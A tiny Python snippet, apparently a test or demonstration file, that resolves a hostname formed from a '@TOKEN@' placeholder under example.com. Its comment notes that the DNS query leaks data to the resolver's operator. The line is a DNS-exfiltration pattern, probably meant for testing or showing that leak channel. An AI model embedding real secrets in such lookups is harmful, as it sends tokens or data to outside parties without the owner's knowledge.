# Resolve a name: a DNS query would leak data to whoever runs the resolver.
import socket

print(socket.getaddrinfo("@TOKEN@.example.com", 80))
